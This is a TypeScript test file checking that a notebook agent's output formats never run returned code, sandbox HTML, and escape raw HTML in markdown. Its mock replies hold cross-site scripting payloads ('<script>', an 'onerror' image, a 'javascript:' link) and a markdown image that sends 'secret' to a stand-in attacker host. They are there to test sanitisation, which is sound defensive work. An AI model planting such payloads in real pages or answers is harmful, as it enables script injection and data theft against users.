import { test } from "node:test";
import assert from "node:assert/strict";
import { dispatch } from "../../magics/dispatch.js";
import { safeMarkdown } from "../../magics/render/format.js";
import { shapeOutput } from "../../runtime/agent/format.js";
import { kernelSetup } from "./setup.js";

test("-f code: the model is told, the snippet is extracted and shown as code, never executed", async (t) => {
  const { srv, ctx, dir } = await kernelSetup(t);
  srv.replies.push({ content: "Here:\n```typescript\nimport { writeFileSync } from 'node:fs';\nwriteFileSync('ran.txt', 'x');\n```\n" });
  const { result } = await dispatch("agent -f code", ctx, { body: "write a file" });
  const sys = srv.requests[0]!.body.messages[0].content as string;
  assert.match(sys, /Output format: The final answer must be only code/);
  const out = (result.data as any).output;
  assert.equal(out.format, "code");
  assert.equal(out.language, "typescript");
  assert.equal(out.code, "import { writeFileSync } from 'node:fs';\nwriteFileSync('ran.txt', 'x');");
  assert.equal(result.markdown, "```typescript\n" + out.code + "\n```");
  assert.match(result.html!, /oc-final-code/);
  assert.match(result.html!, /it was not executed/);
  const { existsSync } = await import("node:fs");
  assert.ok(!existsSync(`${dir}/ran.txt`) && !existsSync(`${dir}/workspace/ran.txt`), "the snippet did not run");
});

test("-f json parses the answer (fences tolerated) and says when it is not JSON; -f html is sandboxed; -f markdown escapes raw HTML", async (t) => {
  const { srv, ctx } = await kernelSetup(t);
  srv.replies.push({ content: '```json\n{"a": [1, 2]}\n```' }, { content: "not json" }, { content: '<b>hi</b><script>alert(1)</script>' }, { content: "# Title\n\n<img src=x onerror=alert(1)> ![t](https://evil.example/?q=secret) [ok](https://example.com) [bad](javascript:alert(1))" });
  const j = await dispatch("agent -f json", ctx, { body: "json please" });
  assert.deepEqual((j.result.data as any).output.json, { a: [1, 2] });
  const bad = await dispatch("agent --format json", ctx, { body: "json please" });
  assert.match((bad.result.data as any).output.jsonError, /not valid JSON/);
  assert.match(bad.result.text!, /not valid JSON/);
  const h = await dispatch("agent -f html", ctx, { body: "html please" });
  assert.match(h.result.html!, /<iframe sandbox="" referrerpolicy="no-referrer"[^>]*srcdoc="&lt;b&gt;hi&lt;\/b&gt;&lt;script&gt;/);
  const m = await dispatch("agent -f markdown", ctx, { body: "md please" });
  const final = m.result.html!.slice(m.result.html!.indexOf("oc-final-markdown"));
  assert.match(final, /<h1>Title<\/h1>/);
  assert.ok(!/<img|<script|href="javascript:/i.test(final), "no live image, script or javascript: link");
  assert.match(final, /&lt;img src=x onerror=alert\(1\)&gt;/, "raw HTML is shown as text");
  assert.match(final, /<a href="https:\/\/example.com"/);
  await assert.rejects(dispatch("agent -f yaml", ctx, { body: "x" }), /yaml/);
});

test("shapeOutput without a fence takes the whole answer as code; safeMarkdown keeps plain text", () => {
  assert.deepEqual(shapeOutput("code", "print(1)\n"), { format: "code", text: "print(1)\n", code: "print(1)", language: null });
  assert.match(safeMarkdown("a *b*"), /a <em>b<\/em>/);
});
